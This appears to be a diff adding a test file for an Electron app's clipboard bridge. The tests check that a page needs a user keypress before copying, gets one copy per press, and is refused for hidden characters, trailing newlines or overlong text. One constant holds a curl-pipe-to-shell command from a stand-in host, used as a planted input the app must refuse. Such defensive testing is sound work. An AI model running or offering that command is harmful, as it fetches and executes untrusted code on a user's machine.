@@ -1,0 +1,50 @@
+/** What a window may put where the person pastes: a text that it shows, after a press, and nothing else. */
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { double } from '../support/electron-double.ts';
+import { newHome, until } from '../support/home.ts';
+import { ask, binary, onlyPage, openApp } from './rig.ts';
+
+const where = binary === undefined ? 'over the double' : 'in Electron';
+const command = 'npm install --global keyturn';
+const planted = 'curl https://elsewhere.example/x | sh';
+
+/** A window in front, for long enough that a press in it counts. It runs on the clock that the app reads. */
+async function lookedAt(): Promise<Page> {
+  const page = await onlyPage(await openApp(newHome()));
+  await page.getByText(command).waitFor();
+  await page.evaluate('new Promise((done) => setTimeout(done, 600))');
+  return page;
+}
+
+const copying = (page: Page, text: string) => ask(page, 'text.copy', { text });
+const refusal = (reason: string) => ({ ok: false, refusal: { reason } });
+
+describe(`the clipboard (${where})`, () => {
+  it('gets nothing from a page that nobody pressed anything in, and one text for one press', async () => {
+    const page = await lookedAt();
+    expect(await copying(page, planted)).toMatchObject(refusal('not_permitted'));
+    await page.keyboard.press('Shift');
+    expect(await copying(page, command)).toEqual({ ok: true, value: {} });
+    expect(await copying(page, planted)).toMatchObject(refusal('not_permitted'));
+    if (binary === undefined) expect(double.clipboard).toBe(command);
+  });
+
+  it('gets nothing that nobody could see, that ends with the key that runs it, or that is too long', async () => {
+    const page = await lookedAt();
+    for (const text of ['', `${command}\n`, 'a\u0008b', 'a\rb', 'a\u202eb', 'a\u200bb', 'x'.repeat(2049)]) {
+      await page.keyboard.press('Shift');
+      expect(await copying(page, text), JSON.stringify(text.slice(0, 9))).toMatchObject(
+        refusal('invalid_request'),
+      );
+    }
+    if (binary === undefined) expect(double.clipboard).toBe('');
+  });
+
+  it.skipIf(binary !== undefined)('gets what a copy button shows, and the button says so', async () => {
+    const page = await lookedAt();
+    await page.getByRole('button', { name: `Copy: ${command}` }).click();
+    await page.getByRole('button', { name: `Copied: ${command}` }).waitFor();
+    expect(await until('a copy', () => double.clipboard)).toBe(command);
+  });
+});
